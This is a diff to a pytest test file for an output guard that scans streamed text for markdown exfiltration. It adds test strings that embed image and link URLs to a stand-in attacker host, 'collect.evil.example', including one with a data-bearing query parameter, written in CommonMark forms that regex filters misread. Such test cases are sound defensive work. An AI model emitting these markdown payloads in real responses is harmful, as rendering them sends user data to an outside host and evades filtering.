@@ -44,6 +44,9 @@ def stream(answer: str, *, by: int = 3, customer: tuple[str, ...] = ()) -> tuple
             "Here: ![x](https://evil.example/" + "a" * 200 + ") thanks for waiting so patiently.",
             "evil",
         ),
+        # Markdown the regexes misread: the guard reads it as CommonMark does.
+        ("Look: ![size [EU] chart](//collect.evil.example/c.png?e=jo) and more words.", "evil"),
+        ("Open [the form](<//collect.evil.example/a form>) and more words here.", "evil"),
     ],
 )
 @pytest.mark.parametrize("by", [1, 4, 17])
